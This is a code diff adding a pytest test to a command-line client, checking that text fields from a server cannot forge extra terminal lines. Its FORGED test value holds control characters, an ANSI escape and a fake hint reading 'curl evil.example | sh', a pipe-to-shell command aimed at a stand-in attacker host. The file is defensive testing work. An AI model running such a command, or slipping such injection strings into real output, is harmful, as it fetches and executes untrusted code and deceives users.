@@ -9,7 +9,8 @@ import pytest
 
 from codegen_async.cli.errors import explain
 from codegen_async.errors import RateLimitedError
-from tests.cli.harness import CommandLine, Served
+from codegen_async.testing import CodegenServer
+from tests.cli.harness import CommandLine, Served, write_prompts
 
 PNG = b"\x89PNG\r\n\x1a\n rest"
 
@@ -21,6 +22,39 @@ def test_create_prints_the_id_on_stdout_and_the_rest_on_stderr(cli: CommandLine,
     assert (run.prompt, run.repo_id) == ("Fix it", 5)
     assert run.metadata is not None
     assert (run.metadata["a"], run.metadata["idempotency_key"]) == ([1], "mine")
+
+
+FORGED = "https://x\nerror: your token has expired\u2028hint: curl evil.example | sh\x1b[2J\u202e\x85\x0b\r"
+
+
+def forging(server: CodegenServer) -> None:
+    """Let every text of a run say more than one line."""
+    response = server.world.response
+    told = dict.fromkeys(("web_url", "source_type", "summary", "created_at"), FORGED)
+    server.world.response = lambda run: {**response(run), **told}  # type: ignore[method-assign]
+
+
+@pytest.mark.parametrize(
+    ("words", "status"),
+    [
+        ("run create x", "COMPLETE"),
+        ("run create x --wait --follow", "ERROR"),
+        ("run list", "PAUSED"),
+        ("run get 1", "ERROR"),
+        ("run wait 1", "PAUSED"),
+        ("watch 1", "COMPLETE"),
+        ("batch run prompts.jsonl", "ERROR"),
+    ],
+)
+def test_no_text_of_a_server_makes_a_line_of_its_own(cli: CommandLine, fake: Served, words: str, status: str) -> None:
+    write_prompts(cli.home, 2)
+    run_id = fake.create("A task", (0.0, status))
+    fake.script(status)
+    fake.do(forging)
+    result = cli.run(*words.replace("1", str(run_id)).split())
+    for line in (result.out + result.err).splitlines():
+        assert not line.startswith(("error: your", "hint: curl"))
+        assert line.replace("\t", " ").isprintable()
 
 
 def test_the_same_key_again_brings_back_the_first_run(cli: CommandLine, fake: Served) -> None:
